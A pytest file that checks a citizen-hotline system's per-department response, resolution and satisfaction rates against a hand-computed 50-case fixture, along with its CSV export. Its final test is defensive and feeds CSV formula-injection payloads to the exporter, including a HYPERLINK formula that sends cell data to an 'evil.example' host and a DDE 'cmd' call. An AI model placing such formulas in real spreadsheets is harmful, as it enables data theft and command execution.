"""三率 against a hand-computed fixture of 50 cases (tests/fixtures/rates_50.csv).

The expected figures below were worked out by hand from the fixture rows:
- 城管局 20 cases: 18 accepted in time, 1 late, 1 never → 响应率 18/20; 15 surveyed, 12 已解决 → 12/15;
  10 满意 + 3 基本满意 + 2 不满意 → (10 + 0.8·3)/15 = 12.4/15.
- 水务局 16 cases: 12 in time, 4 late → 12/16; 10 surveyed, 5 已解决; 4 满意 + 2 基本 + 4 不满意 → 5.6/10.
- 住建局 10 cases: all in time; 8 surveyed, all 已解决 and 满意.
- 直接答复 4 consultations answered at intake: responded by definition; 2 surveyed, both 已解决, 1 满意 + 1 基本.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from hotline.rates import DIRECT_ANSWER_UNIT, RateRow, Weights, compute, csv_cell, ranking, to_csv, total
from hotline.rates_cases import RateSettings, rate_row
from hotline.records import Case, Report
from hotline.status import Status
from hotline.store import Event

FIXTURE = Path(__file__).parent / "fixtures" / "rates_50.csv"


def load_rows() -> list[RateRow]:
    rows = []
    with FIXTURE.open(encoding="utf-8") as fh:
        for r in csv.DictReader(fh):
            rows.append(RateRow(
                case_id=r["case_id"], department=r["department"], street=r["street"], category=r["category"],
                created_at=float(r["created_at"]), dispatched=r["dispatched"] == "1",
                accept_delay_s=float(r["accept_delay_s"]) if r["accept_delay_s"] else None,
                response_limit_s=float(r["response_limit_s"]), answered_at_intake=r["answered_at_intake"] == "1",
                resolved=None if r["resolved"] == "" else r["resolved"] == "1",
                satisfaction=r["satisfaction"] or None,
            ))
    return rows


def by_key(rates: list) -> dict:
    return {r.key: r for r in rates}


def test_fixture_has_fifty_cases() -> None:
    assert len(load_rows()) == 50


def test_department_rates_match_hand_computation() -> None:
    got = by_key(compute(load_rows(), "department"))
    assert set(got) == {"城管局", "水务局", "住建局", DIRECT_ANSWER_UNIT}
    a = got["城管局"]
    assert (a.cases, a.dispatched, a.responded, a.surveyed, a.resolved) == (20, 20, 18, 15, 12)
    assert a.response_rate == pytest.approx(0.9)
    assert a.resolution_rate == pytest.approx(0.8)
    assert a.satisfaction_rate == pytest.approx(12.4 / 15)
    assert a.score == pytest.approx(0.1 * 0.9 + 0.45 * 0.8 + 0.45 * 12.4 / 15)
    b = got["水务局"]
    assert b.response_rate == pytest.approx(0.75)
    assert b.resolution_rate == pytest.approx(0.5)
    assert b.satisfaction_rate == pytest.approx(0.56)
    assert b.score == pytest.approx(0.552)
    c = got["住建局"]
    assert (c.response_rate, c.resolution_rate, c.satisfaction_rate, c.score) == (1.0, 1.0, 1.0, pytest.approx(1.0))
    d = got[DIRECT_ANSWER_UNIT]
    assert (d.cases, d.dispatched, d.responded, d.surveyed) == (4, 4, 4, 2)
    assert d.satisfaction_rate == pytest.approx(0.9)
    assert d.score == pytest.approx(0.955)


def test_ranking_order_and_totals() -> None:
    rows = load_rows()
    ranked = ranking(compute(rows, "department"))
    assert [r.key for r in ranked] == ["住建局", DIRECT_ANSWER_UNIT, "城管局", "水务局"]
    t = total(rows)
    assert (t.cases, t.dispatched, t.responded, t.surveyed, t.resolved, t.satisfied, t.basic, t.unsatisfied) == (
        50, 50, 44, 35, 27, 23, 6, 6)
    assert t.response_rate == pytest.approx(0.88)
    assert t.resolution_rate == pytest.approx(27 / 35)
    assert t.satisfaction_rate == pytest.approx(27.8 / 35)


def test_street_rates_leave_out_cases_without_street() -> None:
    got = by_key(compute(load_rows(), "street"))
    assert set(got) == {"东华门街道", "景山街道"}
    east = got["东华门街道"]
    assert (east.cases, east.responded, east.surveyed, east.resolved, east.satisfied, east.basic) == (
        26, 22, 20, 15, 14, 2)
    assert east.satisfaction_rate == pytest.approx(0.78)
    jing = got["景山街道"]
    assert (jing.cases, jing.responded, jing.surveyed, jing.resolved) == (20, 18, 13, 10)
    assert jing.satisfaction_rate == pytest.approx(0.8)


def test_week_and_category_grouping() -> None:
    rows = load_rows()
    weeks = by_key(compute(rows, "week"))
    assert {k: v.cases for k, v in weeks.items()} == {"2026-W47": 46, "2026-W48": 4}
    cats = by_key(compute(rows, "category"))
    assert cats["供水"].cases == 16


def test_weights_come_from_config_values() -> None:
    strict = Weights(basic_satisfied=0.0)
    a = by_key(compute(load_rows(), "department", strict))["城管局"]
    assert a.satisfaction_rate == pytest.approx(10 / 15)


def test_unknown_grouping_is_refused() -> None:
    with pytest.raises(ValueError):
        compute(load_rows(), "colour")


def test_csv_export_has_ranked_rows_in_chinese() -> None:
    text = to_csv(ranking(compute(load_rows(), "department")))
    lines = text.strip().splitlines()
    assert lines[0].startswith("排名,单位")
    assert lines[1].startswith("1,住建局,10,")
    assert "90.0%" in lines[3]  # 城管局 响应率
    assert len(lines) == 5


def test_empty_input_gives_no_rates() -> None:
    assert compute([], "department") == []
    assert total([]).score is None


def test_merged_reporters_answers_are_evaluations_of_their_own() -> None:
    # One case of 城管局 with its own reporter and two merged reporters who answered differently.
    base = load_rows()[0]
    assert base.department == "城管局"
    row = RateRow(case_id="M1", department="城管局", street="", category="", created_at=base.created_at,
                  dispatched=True, accept_delay_s=60.0, response_limit_s=3600.0, resolved=True,
                  satisfaction="satisfied", reports=((True, "basic"), (False, "unsatisfied")))
    merged = by_key(compute([row], "department"))["城管局"]
    assert (merged.cases, merged.dispatched, merged.responded) == (1, 1, 1)  # the response rate stays per case
    assert (merged.surveyed, merged.resolved, merged.satisfied, merged.basic, merged.unsatisfied) == (3, 2, 1, 1, 1)
    assert merged.resolution_rate == pytest.approx(2 / 3)
    assert merged.satisfaction_rate == pytest.approx(1.8 / 3)
    # Only merged reporters answered (the case's own reporter was unreachable): still counted.
    silent = RateRow(case_id="M2", department="城管局", street="", category="", created_at=base.created_at,
                     dispatched=True, accept_delay_s=None, response_limit_s=3600.0, reports=((True, "satisfied"),))
    both = by_key(compute([*load_rows(), row, silent], "department"))["城管局"]
    assert (both.cases, both.responded, both.surveyed, both.resolved) == (22, 19, 19, 15)


def test_rate_row_takes_the_answers_of_the_current_merged_reporters() -> None:
    cfg = RateSettings(weights=Weights(), response_hours=24, urgent_response_hours=2, min_cases=1)
    ts = 1_795_000_000.0

    def report(rid: str) -> Report:
        return Report(report_id=rid, channel="web", sender="", contact="", text="同一问题", received_at=ts)

    case = Case(id="20261124-000001", channel="web", sender="", status=Status.REOPENED, created_at=ts,
                updated_at=ts, text="路灯不亮", normalized_text="路灯不亮", classification={"department": "城管局"},
                reports=[report("20261124-000002"), report("20261124-000003")],
                survey={"resolved": True, "satisfaction": "satisfied", "reports": {
                    "20261124-000002": {"resolved": False, "satisfaction": "unsatisfied", "comment": "没修好"},
                    "20261124-000003": {"resolved": "?", "satisfaction": "basic"},  # not an answer
                    # Answered before its merge was undone: it is its own case now and rated there.
                    "20261124-000009": {"resolved": True, "satisfaction": "basic"}}})
    events = [Event("1", ts + 10, "system", "dispatched", {"to": "dispatched"}),
              Event("2", ts + 70, "system", "accepted", {})]
    row = rate_row(case, events, cfg)
    assert row is not None
    assert (row.resolved, row.satisfaction, row.reports) == (True, "satisfied", ((False, "unsatisfied"),))
    assert row.accept_delay_s == 60
    t = total([row])
    assert (t.cases, t.surveyed, t.resolved, t.satisfied, t.unsatisfied) == (1, 2, 1, 1, 1)


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_formula_cells(hostile: str) -> None:
    rates = compute([r for r in load_rows() if r.department == "住建局"], "department")
    rates[0].key = hostile
    rows = list(csv.reader(io.StringIO(to_csv(ranking(rates)), newline="")))
    assert rows[1][1] == "'" + hostile
    assert rows[1][0] == "1" and rows[1][2] == "10" and rows[1][10] == "100.0%"
    assert csv_cell("城管局") == "城管局" and csv_cell(-1) == -1 and csv_cell("a=b") == "a=b"
